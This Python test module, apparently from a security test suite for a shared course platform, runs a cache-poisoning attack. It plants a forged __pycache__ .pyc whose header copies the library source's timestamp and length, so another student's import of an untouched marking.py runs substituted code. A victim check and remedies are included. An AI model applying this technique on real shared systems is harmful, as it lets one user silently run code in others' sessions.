# SPDX-License-Identifier: MIT
"""Goal:  the next student runs our code in place of the course's library.
Means: Python believes a __pycache__ file if its header repeats the source's time and length; the
       code in it may be any. The library's source is as it should be, and so is its checksum.

    attacker:  /tmp/course/__pycache__/marking.cpython-3XX.pyc    (header: the source's)
    victim:    /tmp/course/marking.py, unpacked if it is not there; import marking
"""

import importlib._bootstrap_external as loader
import importlib.util
import os
import sys

from attack import DONE, attempting, denied, failed

SOURCE = "def add(a, b):\n    return a + b\n"
FORGED = "def add(a, b):\n    return a - b\n"
PACKED = 1_700_000_000  # archives that are built the same way twice have fixed times


def unpack(folder):
    """As the platform's first call does: the course's library, in the one place to write to."""
    path = f"{folder}/course/marking.py"
    if not os.path.exists(path):
        os.makedirs(f"{folder}/course", exist_ok=True)
        with open(path, "w", encoding="ascii") as file:
            file.write(SOURCE)
        os.utime(path, (PACKED, PACKED))
    return path


def run(_brief):
    attempting()
    try:
        path = unpack("/tmp")
        cache = importlib.util.cache_from_source(path)
        os.makedirs(os.path.dirname(cache), exist_ok=True)
        with open(cache, "wb") as file:
            file.write(loader._code_to_timestamp_pyc(
                compile(FORGED, path, "exec"), PACKED, len(SOURCE)))
    except OSError as why:
        return denied("__pycache__", why)
    return DONE


def victim(_brief):
    try:
        path = unpack("/tmp")
    except OSError:
        path = unpack(os.getcwd())
    sys.path.insert(0, os.path.dirname(path))
    import marking  # the course's own

    return DONE if marking.add(2, 2) == 4 else failed("2 + 2", marking.add(2, 2))


ATTACK = {
    "effect": "the next student's import of an untouched library runs other code",
    "means": "a __pycache__ file whose header repeats the source's time and length",
    "oracle": "victim",
    "scene": "before-victim",
    "quick": True,
    "id": "PERS-08",
    "attack_id": "T1554, CWE-459, CWE-345",
    "remedy": "libraries in a read-only folder; PYTHONPYCACHEPREFIX",
    "refs": ["PEP 3147", "PEP 552"],
    "run": run,
    "victim": victim,
}
